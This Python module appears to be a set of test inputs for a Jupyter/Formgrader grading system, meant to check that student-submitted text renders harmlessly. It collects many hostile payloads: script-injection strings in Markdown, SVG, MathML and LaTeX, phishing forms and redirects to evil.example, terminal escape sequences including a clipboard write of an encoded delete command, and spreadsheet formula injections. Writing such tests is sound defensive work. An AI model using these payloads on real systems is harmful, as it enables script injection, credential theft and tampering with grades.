"""Attacks on whoever reads a page, a terminal or a table: what a student writes, prints or raises must run nowhere.

Each is text that ends up in feedback, in Formgrader or in a terminal; expected is that it can be read and does nothing.
"""

MARKDOWN = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "an image with an error": "<img src=x onerror=alert(1)>",
    "a picture that tells who reads": "![pixel](https://evil.example/pixel.png)",
    "a picture by reference": "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "a script in SVG": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "SVG that animates": '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "a frame": '<iframe src="javascript:alert(1)"></iframe>',
    "a frame of a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "a link": "[click](javascript:alert(1))",
    "a link in odd letters": "[click](JaVaScRiPt:alert(1))",
    "a link with entities": "[click](&#106;avascript:alert(1))",
    "a link with a tab": "[click](java\tscript:alert(1))",
    "a link by reference": "[click][x]\n\n[x]: javascript:alert(1)",
    "a link with data": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "a link to a file": "[click](file:///etc/passwd)",
    "an address in angles": "<javascript:alert(1)> <https://evil.example>",
    "a link out": "[your grade](https://evil.example/login)",
    "a bare address": "https://evil.example/login and www.evil.example",
    "a formula with a link": r"$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$",
    "a formula with styles": r"$\style{position:fixed}{x}$ $\cssId{evil}{x}$ $\class{evil}{x}$",
    "a formula with HTML": r"$\htmlData{onclick=alert(1)}{x}$ $\text{<script>alert(1)</script>}$ $<img src=x onerror=alert(1)>$",
    "a formula that grows": r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d\d\d$",
    "a formula nested without end": "$" + r"\frac{" * 2000 + "$",
    "a formula without an end": r"$$\begin{matrix} 1 & 2 \\ <script>alert(1)</script> $$",
    "MathML": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "MathML that turns into HTML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a style": "<style>body { display: none } @import url(https://evil.example/x.css);</style>",
    "a form": '<form action="https://evil.example/"><input name=password><input type=submit></form>',
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "half a tag": "<img src=x onerror=alert(1) //",
    "a comment": "<!-- --><b onmouseover=alert(1)>x</b>",
    "a comment without an end": "<!-- ",
    "an end of the page": "</main></body></html><script>alert(1)</script>",
    "an end of the title": "</title></style></textarea><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "a template": "{{ self.__init__.__globals__ }} {% include '/etc/passwd' %} ${7*7} {#",
    "a fence with a language of its own": '```"><script>alert(1)</script>\nx\n```\n\n```mermaid\nclick A "javascript:alert(1)"\n```',
    "a heading": '# <img src=x onerror=alert(1)> {#evil onclick="alert(1)"}',
    "a table": "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | <b onclick=alert(1)> |",
    "a name that is taken": '<a id="relu_backward"></a><p id="check-relu_backward">15 of 15 points</p>',
    "markdown that takes long": "[" * 5000 + "*" * 5000 + "`" * 5000,
    "a page in one cell": "<script>alert(1)</script>" * 4000,
}  # fmt: skip

PRINTED = {
    "a script printed": "<script>alert(1)</script>",
    "a page printed": "</pre></div></main><script>alert(1)</script>",
    "a comment printed": "<!-- ]]> -->",
    "colours": "\x1b[31mred\x1b[0m",
    "an empty screen": "\x1b[2J\x1b[H\x1bc",
    "a title for the terminal": "\x1b]0;owned\x07",
    "a link of the terminal's": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "an answer from the terminal": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "controls of eight bits": "\x9b31m\x9d0;owned\x9c",
    "a line written over": "0 of 15 points\r15 of 15 points",
    "letters taken back": "0\b1\b5",
    "text from right to left": "\u202e\u2066points 51\u2069",
    "letters without width": "\u200b\u200d\ufeff",
    "a zero": "\x00",
    "half a character": "\ud800",
    "a bell": "\a" * 100,
    "feeds and tabs": "\v\f\x1c\x1d\x85\u2028\u2029",
}  # fmt: skip

OUTPUTS = {
    "JavaScript as an output": {"application/javascript": "alert(1)", "text/plain": "x"},
    "HTML as an output": {"text/html": "<script>alert(1)</script>", "text/plain": "x"},
    "SVG as an output": {"image/svg+xml": "<svg onload=alert(1)></svg>", "text/plain": "x"},
    "LaTeX as an output": {"text/latex": r"$\href{javascript:alert(1)}{x}$"},
    "Markdown as an output": {"text/markdown": "[x](javascript:alert(1))"},
    "a widget as an output": {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
    "a plot by a library of the network": {"application/vnd.plotly.v1+json": {"data": []}, "text/html": "<script src=//evil.example>"},
}  # fmt: skip

NAMES = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("https://evil.example")']


def printing(text):
    """A cell that prints it."""
    return f"print({text!a})"


def raising(text):
    """A cell that stops with it: as the exception's text, and as its name."""
    return f"E = type({text.replace(chr(0), '0')!a}, (Exception,), {{}})\nraise E({text!a})"


def answering(text):
    """An answer that raises it, so that the check's own message holds it."""
    return f"def relu_backward(da, z):\n    print({text!a})\n    raise ValueError({text!a})"
